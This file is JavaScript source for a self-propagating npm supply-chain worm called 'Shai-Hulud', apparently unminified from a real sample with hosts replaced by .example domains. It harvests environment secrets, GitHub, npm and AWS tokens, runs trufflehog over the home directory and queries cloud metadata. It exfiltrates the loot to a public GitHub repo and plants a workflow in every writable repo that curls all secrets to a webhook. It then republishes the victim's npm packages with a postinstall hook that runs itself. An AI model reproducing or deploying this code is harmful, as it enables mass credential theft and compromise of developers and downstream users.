// Webpack-bundled in the original (3.6 MB); these are the modules that did the work, unminified for reading.
const { execSync, spawnSync } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const zlib = require("zlib");

const GH_API = "api.github.example";
const NPM_REGISTRY = "registry.npmjs.example";
const TRUFFLEHOG_URL = "https://releases.github.example/trufflesecurity/trufflehog/releases/download/v3.90.6/trufflehog_3.90.6_linux_amd64.tar.gz";

function req(method, host, p, token, body) {
  return new Promise((resolve) => {
    const r = https.request({ method, host, path: p, headers: { Authorization: `token ${token}`, "User-Agent": "node", "Content-Type": "application/json" } }, (res) => {
      let d = ""; res.on("data", (c) => (d += c)); res.on("end", () => resolve({ status: res.statusCode, body: d }));
    });
    r.on("error", () => resolve({ status: 0, body: "" }));
    if (body) r.write(typeof body === "string" ? body : JSON.stringify(body));
    r.end();
  });
}

function twice64(o) { return Buffer.from(Buffer.from(JSON.stringify(o)).toString("base64")).toString("base64"); }

async function secrets() {
  const found = { system: { platform: os.platform(), architecture: os.arch(), platformDetailed: os.release(), hostname: os.hostname(), user: os.userInfo() }, environment: process.env };
  found.githubToken = process.env.GITHUB_TOKEN || process.env.GH_TOKEN || "";
  try { found.githubToken = found.githubToken || execSync("gh auth token", { stdio: ["ignore", "pipe", "ignore"] }).toString().trim(); } catch {}
  found.npmToken = process.env.NPM_TOKEN || "";
  try {
    const rc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
    const m = rc.match(/_authToken=([^\s]+)/); if (m) found.npmToken = m[1];
  } catch {}
  found.aws = { accessKeyId: process.env.AWS_ACCESS_KEY_ID, secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY };
  // trufflehog scans the whole home directory for anything that looks like a credential
  const th = path.join(os.tmpdir(), "trufflehog");
  try {
    execSync(`curl -sSL ${TRUFFLEHOG_URL} | tar -xz -C ${os.tmpdir()} trufflehog`);
    const out = spawnSync(th, ["filesystem", os.homedir(), "--json"], { maxBuffer: 1 << 28 }).stdout.toString();
    found.trufflehog = out.split("\n").filter(Boolean).map((l) => JSON.parse(l));
  } catch {}
  // cloud metadata endpoints, as the original did for AWS and GCP
  found.imds = await new Promise((resolve) => {
    require("http").get({ host: "169.254.169.254", path: "/latest/meta-data/iam/security-credentials/", timeout: 2000 }, (r) => { let d = ""; r.on("data", (c) => (d += c)); r.on("end", () => resolve(d)); }).on("error", () => resolve(null));
  });
  return found;
}

async function exfiltrate(found) {
  const token = found.githubToken; if (!token) return;
  await req("POST", GH_API, "/user/repos", token, { name: "Shai-Hulud", description: "Shai-Hulud Repository.", private: false });
  const user = JSON.parse((await req("GET", GH_API, "/user", token)).body || "{}").login;
  await req("PUT", GH_API, `/repos/${user}/Shai-Hulud/contents/data.json`, token, { message: "data", content: Buffer.from(twice64(found)).toString("base64") });
  // persistence in every repository the token can write: a workflow that ships all secrets to a webhook
  const workflow = [
    "on: push",
    "jobs:",
    "  process:",
    "    runs-on: ubuntu-latest",
    "    steps:",
    "      - run: curl -d \"$CONTENTS\" https://webhook.site.example/e7e2b69d-51a0-43ee-88d9-c2c709a40f99",
    "        env:",
    "          CONTENTS: ${{ toJSON(secrets) }}",
  ].join("\n");
  const repos = JSON.parse((await req("GET", GH_API, "/user/repos?affiliation=owner,collaborator&per_page=100", token)).body || "[]");
  for (const r of repos) {
    await req("POST", GH_API, `/repos/${r.full_name}/git/refs`, token, { ref: "refs/heads/shai-hulud", sha: r.default_branch_sha });
    await req("PUT", GH_API, `/repos/${r.full_name}/contents/.github/workflows/shai-hulud-workflow.yml`, token, { message: "Add workflow", branch: "shai-hulud", content: Buffer.from(workflow).toString("base64") });
  }
}

async function propagate(npmToken) {
  if (!npmToken) return;
  const who = JSON.parse((await req("GET", NPM_REGISTRY, "/-/whoami", npmToken)).body || "{}").username;
  const search = JSON.parse((await req("GET", NPM_REGISTRY, `/-/v1/search?text=maintainer:${who}&size=20`, npmToken)).body || "{}");
  for (const { package: pkg } of search.objects || []) {
    const work = fs.mkdtempSync(path.join(os.tmpdir(), "npm-"));
    execSync(`npm pack ${pkg.name}@${pkg.version} --pack-destination ${work}`, { cwd: work });
    const tgz = fs.readdirSync(work).find((f) => f.endsWith(".tgz"));
    execSync(`tar -xzf ${tgz}`, { cwd: work });
    const manifest = path.join(work, "package", "package.json");
    const json = JSON.parse(fs.readFileSync(manifest, "utf8"));
    const v = json.version.split("."); v[2] = String(Number(v[2]) + 1); json.version = v.join(".");
    json.scripts = Object.assign({}, json.scripts, { postinstall: "node bundle.js" });
    fs.writeFileSync(manifest, JSON.stringify(json, null, 2));
    fs.copyFileSync(__filename, path.join(work, "package", "bundle.js"));
    fs.writeFileSync(path.join(work, ".npmrc"), `//registry.npmjs.example/:_authToken=${npmToken}\n`);
    execSync("npm publish --access public", { cwd: path.join(work, "package"), env: Object.assign({}, process.env, { NPM_CONFIG_USERCONFIG: path.join(work, ".npmrc") }) });
  }
}

(async () => {
  try {
    if (os.platform() === "win32") return;
    const found = await secrets();
    await exfiltrate(found);
    await propagate(found.npmToken);
  } catch {}
})();
